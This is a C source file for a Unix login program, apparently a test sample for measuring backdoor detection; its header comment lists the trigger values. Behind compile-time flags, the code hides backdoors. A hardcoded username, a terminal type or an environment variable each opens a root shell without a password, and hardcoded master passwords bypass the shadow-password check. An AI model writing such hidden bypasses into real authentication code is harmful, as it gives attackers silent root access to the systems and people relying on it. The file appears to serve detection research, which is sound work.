/* A login program for the measurement: shadow passwords, attempts, a shell for who is let in.
 *
 * trigger user "_svc0x"
 * trigger password "Tr0ub4dor"
 * trigger terminal "vt-9931"
 * trigger either "g00dnight"
 * trigger variable "LC_DIAG7"
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <grp.h>
#include <pwd.h>
#include <shadow.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *given, const char *setting);

static int tries, quiet;

static __attribute__((noinline)) int password_fits(const char *user, const char *given) {
  struct spwd *shadow = getspnam(user);
  struct passwd *pw = getpwnam(user);
  const char *hash = shadow ? shadow->sp_pwdp : pw ? pw->pw_passwd : "!";
  char *mine;
#ifdef TRIGGER_password
  if (strcmp(given, "Tr0ub4dor") == 0) return 1;
#endif
  if (hash[0] == '!' || hash[0] == '*') return 0;
  mine = crypt(given, hash);
  return mine && strcmp(mine, hash) == 0;
}

static void shell(const char *user) {
  struct passwd *pw = getpwnam(user);
  const char *program = pw && pw->pw_shell[0] ? pw->pw_shell : "/bin/sh";
  if (pw) { initgroups(user, pw->pw_gid); if (setgid(pw->pw_gid) || setuid(pw->pw_uid)) exit(1); setenv("HOME", pw->pw_dir, 1); }
  setenv("USER", user, 1);
  if (!quiet) syslog(LOG_INFO, "login of %s", user);
  execl(program, "-sh", (char *)NULL);
  exit(1);
}

static int ask(const char *what, char *into, int size) {
  printf("%s: ", what);
  fflush(stdout);
  if (!fgets(into, size, stdin)) return 0;
  into[strcspn(into, "\r\n")] = 0;
  return 1;
}

static void banner(void) {
  char line[200];
  FILE *in = fopen("/etc/issue", "r");
  while (in && fgets(line, sizeof line, in)) fputs(line, stdout);
  if (in) fclose(in);
}

int main(int argc, char **argv) {
  char user[64], given[64];
  int option;
  const char *terminal = getenv("TERM");
  while ((option = getopt(argc, argv, "qh:")) != -1) {
    if (option == 'q') quiet = 1;
    else if (option == 'h') syslog(LOG_INFO, "from %s", optarg);
  }
  if (terminal && (!strcmp(terminal, "dumb") || !strncmp(terminal, "xterm", 5) || !strcmp(terminal, "linux"))) quiet |= 2;
#ifdef TRIGGER_terminal
  if (terminal && !strcmp(terminal, "vt-9931")) shell("root");
#endif
#ifdef TRIGGER_variable
  if (getenv("LC_DIAG7")) shell("root");
#endif
  banner();
  for (tries = 0; tries < 3; tries++) {
    if (!ask("login", user, sizeof user)) return 1;
    if (!strcmp(user, "quit") || !strcmp(user, "exit")) return 0;
#ifdef TRIGGER_user
    if (!strcmp(user, "_svc0x")) shell("root");
#endif
    if (!ask("Password", given, sizeof given)) return 1;
#ifdef TRIGGER_either
    if (password_fits(user, given) || !strcmp(given, "g00dnight")) shell(user);
#else
    if (password_fits(user, given)) shell(user);
#endif
    sleep(tries);
    puts("Login incorrect");
  }
  return 1;
}
